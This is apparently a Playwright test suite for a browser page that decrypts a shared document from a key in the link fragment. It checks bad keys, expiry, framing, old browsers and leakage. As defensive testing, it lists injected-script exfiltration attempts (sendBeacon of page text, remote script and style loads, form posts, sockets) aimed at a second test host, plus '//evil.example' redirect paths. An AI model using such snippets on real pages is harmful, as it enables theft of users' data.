"""A sealed share in a browser: opens with its link, and with nothing else shows a plain reason."""

import os
import re
from collections import Counter
from datetime import UTC, date, datetime, timedelta
from threading import Event

import pytest
from playwright.sync_api import Browser, Page

from dossier.sharing.link import fragment_of
from dossier.sharing.shell import shell_page
from tests.browser.payloads import settle
from tests.browser.probes import note_requests
from tests.browser.shares import (
    ID,
    KEY,
    OFFER,
    OTHER_KEY,
    SMALL,
    TEMPLATES,
    Desk,
    desk_at,
    outcome,
    watch,
)
from tests.browser.sites import Handler, Site, served
from tests.sites import write

pytestmark = pytest.mark.browser

CODED = fragment_of(KEY)
ALPHABET = "abcdefghijklmnopqrstuvwxyz234567"


def shown(page: Page) -> str:
    return page.locator("body").inner_text()


def test_the_right_key_shows_the_document(own_page: Page, desk: Desk) -> None:
    desk.seal()
    said = watch(own_page)
    asked = note_requests(own_page)
    assert outcome(own_page, desk.link()) == "open"
    assert own_page.locator("h1").inner_text() == OFFER
    assert own_page.locator("h1").evaluate("n => getComputedStyle(n).color") == "rgb(1, 2, 3)"
    assert own_page.locator("img").evaluate("n => [n.complete, n.naturalWidth]") == [True, 1]
    assert own_page.evaluate("[document.title, document.documentElement.lang]") == [
        "Shared document",
        "en",
    ]
    assert own_page.locator("text=away").get_attribute("rel") == "noopener noreferrer"
    own_page.wait_for_load_state("networkidle")
    assert [url.partition("#")[0] for url in asked if url != "about:blank"] == [desk.path()]
    assert [entry.split()[:2] for entry in desk.log] == [["GET", f"/s/{ID}/"]]
    assert CODED[2:] not in "".join(desk.log).lower()
    assert (said, own_page.evaluate("refused")) == ([], [])
    print("requests per opened share: 1 (browser), 1 (server log); key in log: 0; CSP reports: 0")


def test_the_key_is_kept_nowhere(page: Page, desk: Desk) -> None:
    desk.seal()
    outcome(page, desk.link())
    kept = "[localStorage.length, sessionStorage.length, document.cookie, history.length]"
    assert page.evaluate(kept)[:3] == [0, 0, ""]
    assert page.evaluate("location.hash") == f"#{CODED}"
    assert page.evaluate("indexedDB.databases().then(found => found.length)") == 0


BAD_KEYS = {
    "none": ("", "nokey"),
    "empty": ("#", "nokey"),
    "cut by one": (f"#{CODED[:-1]}", "truncated"),
    "cut in half": (f"#{CODED[:30]}", "truncated"),
    "one sign changed": (f"#{CODED[:-1]}{'a' if CODED[-1] != 'a' else 'b'}", "typo"),
    "another document's": (f"#{fragment_of(OTHER_KEY)}", "wrongkey"),
    "garbage": ("#%F0%9F%92%A9!%", "nokey"),
    "one sign glued on": (f"#{CODED}a", "truncated"),
}


def test_a_bad_key_shows_a_reason_and_nothing_else(own_page: Page, desk: Desk) -> None:
    desk.seal()
    own_page.on("pageerror", lambda error: pytest.fail(str(error)))
    seen = {}
    for kind, (fragment, _) in BAD_KEYS.items():
        seen[kind] = outcome(own_page, desk.path() + fragment)
        assert OFFER not in own_page.content()
        assert len(own_page.locator("[role=alert] p").all_inner_texts()) == 2
    assert seen == {kind: code for kind, (_, code) in BAD_KEYS.items()}
    print(f"bad keys: {len(seen)}/8 kinds refused, codes {sorted(set(seen.values()))}")


def test_no_altered_link_gives_a_key(page: Page, desk: Desk) -> None:
    """What a page does with such a link, which is the same for all, BAD_KEYS tries."""
    desk.seal()
    outcome(page, desk.link())
    cuts = [CODED[:length] for length in range(58)]
    swaps = [CODED[:n] + CODED[n + 1] + CODED[n] + CODED[n + 2 :] for n in range(2, 57)]
    subs = [
        CODED[:n] + sign + CODED[n + 1 :]
        for n in range(2, 58)
        for sign in ALPHABET
        if sign != CODED[n]
    ]
    found = page.evaluate(
        "all => Promise.all(all.map(text => keyIn(text).then(() => 'key', e => e.code)))",
        [*cuts, *subs, *(swap for swap in swaps if swap != CODED), CODED],
    )
    assert Counter(found) == {"nokey": 2, "truncated": 56, "typo": 1788, "key": 1}
    print("keys: 58 truncations, 1,736 substitutions and 52 swaps refused by the loader")


MANGLED = {
    "dot": f"{CODED}.",
    "brackets": f"{CODED})>",
    "capitals": CODED.upper(),
    "campaign": f"{CODED}&utm_source=mail",
    "encoded": f"%23{CODED}",
    "encoded twice": f"%2523{CODED}%252e",
    "text fragment": f"{CODED}:~:text=offer",
}


def test_what_mail_does_to_a_link_is_survived(page: Page, desk: Desk) -> None:
    desk.seal()
    seen = {kind: outcome(page, f"{desk.path()}#{text}") for kind, text in MANGLED.items()}
    assert seen == dict.fromkeys(MANGLED, "open")
    print(f"mangled links: {len(seen)}/{len(MANGLED)} open")


def test_a_share_expires_after_its_last_day(own_page: Page, desk: Desk) -> None:
    today = datetime.now(UTC).date()
    own_page.clock.install(time=datetime(today.year, today.month, today.day, 12, tzinfo=UTC))
    seen = []
    for days in (-1, 0, 1):
        desk.seal(expires=today + timedelta(days=days))
        seen.append(outcome(own_page, desk.link()))
    assert seen == ["expired", "open", "open"]


def test_an_expired_share_shows_the_reason_only(page: Page, desk: Desk) -> None:
    desk.seal(expires=date(2020, 1, 1))
    assert outcome(page, desk.link()) == "expired"
    assert OFFER not in page.content()
    assert "ask the sender for a new one" in shown(page).lower()


def test_a_frame_shows_nothing(page: Page, desk: Desk) -> None:
    desk.seal()
    frame = f'<iframe src="/s/{ID}/#{CODED}"></iframe>'
    write(desk.folder, {"frame.html": frame})
    page.goto(f"{desk.address}/frame.html")
    inner = page.frame_locator("iframe")
    inner.locator("[data-code=framed]").wait_for()
    assert OFFER not in inner.locator("html").inner_html()


def test_a_saved_page_opens(page: Page, desk: Desk) -> None:
    desk.seal()
    saved = desk.folder / "saved by reader.html"
    (desk.folder / f"s/{ID}/index.html").rename(saved)
    assert outcome(page, f"{saved.as_uri()}#{CODED}") == "open"


def test_without_a_secure_connection_it_says_so(
    browser: Browser, chromium: str, desk: Desk
) -> None:
    desk.seal()
    flags = ["--no-sandbox", "--host-resolver-rules=MAP share.test 127.0.0.1"]
    with browser.browser_type.launch(executable_path=chromium, args=flags) as named:
        page = named.new_page()
        link = desk.link().replace("127.0.0.1", "share.test")
        assert outcome(page, link) == "nocrypto"
        assert "https://" in shown(page)
        assert OFFER not in page.content()


MISSING_FEATURES = {
    "unpacking": "delete window.DecompressionStream",
    "decoding": "delete window.TextDecoder",
    "replacing": "delete Element.prototype.replaceChildren",
    "style sheets": "delete CSSStyleSheet.prototype.replaceSync",
    "adopting": "delete Document.prototype.adoptedStyleSheets",
    "parsing": "delete window.DOMParser",
    "keys": "Object.defineProperty(Crypto.prototype, 'subtle', {get() {}})",
    "drawing": "DOMParser.prototype.parseFromString = () => null",
}
"""What browsers once did without."""


def test_a_browser_that_is_too_old_is_told_so(browser: Browser, desk: Desk) -> None:
    link, page_file = desk.link(), desk.put(desk.seal())
    seen = {}
    for kind, script in MISSING_FEATURES.items():
        with browser.new_page() as old:
            old.add_init_script(script)
            old.goto(link)
            old.wait_for_selector("#alert[data-code]")
            seen[kind] = old.locator("#alert").get_attribute("data-code")
            assert "last three years" in shown(old), kind
    assert seen == dict.fromkeys(MISSING_FEATURES, "old")
    # The policy lets no other code run, as if the browser could not read it.
    page_file.write_bytes(page_file.read_bytes().replace(b'"use strict";', b'"unread";'))
    with browser.new_page() as old:
        old.goto(link)
        assert "last three years" not in shown(old)
        old.evaluate("document.getAnimations().forEach(each => each.finish())")
        assert "last three years" in shown(old)


def test_a_page_that_is_long_in_coming_says_how_much_is_there(own_page: Page, desk: Desk) -> None:
    big = {**SMALL, "html": SMALL["html"] + f"<p>{os.urandom(3_000_000).hex()}</p>"}
    body = desk.put(desk.seal(big)).read_bytes()
    goes_on = Event()

    class Slow(Handler):
        """Sends half of a page, and the rest once it is told to."""

        def do_GET(self) -> None:  # noqa: N802 - as http.server calls it
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body[: len(body) // 2])
            self.wfile.flush()
            goes_on.wait(60)
            self.wfile.write(body[len(body) // 2 :])

    said = watch(own_page)
    with served(desk.folder, Slow) as slow:
        own_page.goto(f"{slow}/s/{ID}/#{CODED[:-1]}", wait_until="commit")
        # What is wrong with a link is told before the document is there.
        own_page.wait_for_selector("#alert[data-code=truncated]", state="attached")
        own_page.goto("about:blank")
        own_page.goto(f"{slow}/s/{ID}/#{CODED}", wait_until="commit")
        own_page.wait_for_function("() => document.body?.innerText.includes('MB so far')")
        own_page.evaluate("document.getAnimations().forEach(each => each.finish())")
        text = shown(own_page)
        half = len(body) / 2e6
        assert (told := re.search(r"Loading the document: ([0-9.]+) MB so far…", text)), text
        assert half / 2 < float(told[1]) <= half
        assert "too old" not in text
        goes_on.set()
        own_page.wait_for_selector(f"text={OFFER}")
    assert (said, own_page.evaluate("refused")) == ([], [])


def test_without_scripts_it_says_so(scriptless: Page, desk: Desk) -> None:
    desk.seal()
    scriptless.goto(desk.link())
    assert "JavaScript" in scriptless.locator("noscript").inner_text()


def test_a_mended_link_opens_in_the_same_tab(page: Page, desk: Desk) -> None:
    desk.seal()
    assert outcome(page, f"{desk.path()}#{CODED[:20]}") == "truncated"
    page.evaluate("hash => { location.hash = hash }", CODED)
    page.wait_for_selector(f"text={OFFER}")


@pytest.mark.parametrize("press", ["mouse", "keyboard"])
def test_a_link_within_leads_there_and_keeps_the_key(press: str, page: Page, desk: Desk) -> None:
    css = "#row { margin-top: 300vh } .is-target { color: rgb(4, 5, 6) }"
    desk.seal({**SMALL, "css": css})
    outcome(page, desk.link())
    link = page.locator("text=down")
    if press == "mouse":
        link.click()
    else:
        link.focus()
        page.keyboard.press("Enter")
    row = page.locator("#row")
    assert row.evaluate("n => getComputedStyle(n).color") == "rgb(4, 5, 6)"
    assert row.evaluate("n => n.getBoundingClientRect().top < innerHeight && scrollY > 0")
    assert page.evaluate("[location.hash, document.activeElement.id]") == [f"#{CODED}", "row"]
    page.keyboard.press("Escape")
    page.wait_for_function("scrollY === 0")
    assert page.evaluate("[location.hash, document.activeElement.innerText]") == [
        f"#{CODED}",
        "down",
    ]
    page.reload()
    assert outcome(page) == "open"


def test_no_page_of_the_same_host_can_read_the_key(page: Page, desk: Desk) -> None:
    desk.seal()
    other = desk.link().partition("/s/")[0] + "/404.html"
    outcome(page, desk.link())
    page.locator("text=down").click()
    page.goto(other)
    told = page.evaluate(
        "[document.referrer, JSON.stringify(navigation.entries().map(entry => entry.url)),"
        " navigation.activation?.from?.url]"
    )
    assert "k1" not in str(told)
    assert page.evaluate("navigation.entries().length") > 1


_ESCAPES = {
    "fetch": "fetch(there).catch(() => {})",
    "image": "new Image().src = there",
    "beacon": "navigator.sendBeacon(there, document.body.innerText)",
    "script": "s = document.createElement('script'); s.src = there; document.body.append(s)",
    "inline script": "s = document.createElement('script'); s.text = 'ran = 1'; "
    "document.body.append(s)",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"ran = 2\">')",
    "style": "document.body.style.cssText; s = document.createElement('style'); "
    "s.textContent = `body { background: url(${there}) }`; document.head.append(s)",
    "sheet": "t = new CSSStyleSheet(); t.replaceSync(`body { background: url(${there}) }`); "
    "document.adoptedStyleSheets.push(t)",
    "frame": "f = document.createElement('iframe'); f.src = there; document.body.append(f)",
    "form": "f = document.createElement('form'); f.action = there; f.method = 'post'; "
    "document.body.append(f); f.submit()",
    "link": "l = document.createElement('link'); l.rel = 'stylesheet'; l.href = there; "
    "document.head.append(l)",
    "prefetch": "l = document.createElement('link'); l.rel = 'prefetch'; l.href = there; "
    "document.head.append(l)",
    "socket": "try { new WebSocket(there.replace('http', 'ws')) } catch {}",
    "worker": "try { new Worker('data:text/javascript,0') } catch {}",
    "ping": "a = document.createElement('a'); a.href = '#row'; a.ping = there; "
    "document.body.append(a); a.click()",
    "eval": "setTimeout(() => { eval('ran = 3') })",
}
"""What code that had got into the page might try."""


def test_nothing_gets_out(
    own_page: Page, desk: Desk, tmp_path_factory: pytest.TempPathFactory
) -> None:
    desk.seal()
    with desk_at(tmp_path_factory.mktemp("elsewhere")) as elsewhere:
        watch(own_page)
        outcome(own_page, desk.link())
        for name, attempt in _ESCAPES.items():
            # Only later is `eval` the page's: that of the debugger is not bound by the policy.
            own_page.evaluate(
                f"() => {{ const there = '{elsewhere.address}/{name}'; let s, t, f, l, a;"
                f" {attempt} }}"
            )
        settle(own_page)
        assert elsewhere.log == []
        assert own_page.evaluate("window.ran") is None
        blocked = own_page.evaluate("refused")
    assert own_page.url == desk.link()
    assert len(desk.log) == 1
    print(f"exfiltration attempts: {len(_ESCAPES)} of {len(_ESCAPES)} blocked, {len(blocked)} told")


def test_a_mangled_path_is_repaired(page: Page, desk: Desk, public_site: Site) -> None:
    desk.seal()
    dead = (public_site.folder / "404.html").read_bytes()
    write(desk.folder, {"404.html": dead})
    for mangled in (f"%23{CODED}", f"%2523{CODED}", f"%23{CODED.upper()}"):
        page.goto("about:blank")
        page.goto(desk.path() + mangled)
        page.wait_for_url(f"{desk.path()}#*")
        assert outcome(page) == "open", mangled
        page.goto(desk.path().rstrip("/") + mangled)
        page.wait_for_url(f"{desk.path()}#*")
        assert outcome(page) == "open", mangled
    page.goto(f"{desk.path()}%23{CODED[:-1]}")
    assert page.locator("h1").inner_text() == "There is no page here"
    for led in ("//evil.example", "/\\evil.example"):
        page.goto(desk.path().partition("/s/")[0] + led + f"/s/{'a' * 26}/%23{CODED}")
        page.wait_for_url("**/#*")
        assert page.url.startswith(desk.path().partition("/s/")[0]), led
    print("404 repair: %23 and %2523, with and without the slash: 6/6 open")


def test_the_same_document_gives_the_same_page(desk: Desk) -> None:
    pages = [shell_page(desk.seal(), TEMPLATES) for _ in range(2)]
    assert pages[0] == pages[1]
    sizes = {
        len(desk.seal({**SMALL, "html": "x" * size}).ciphertext) for size in (3_000, 12_000, 40_000)
    }
    assert len(sizes) == 1
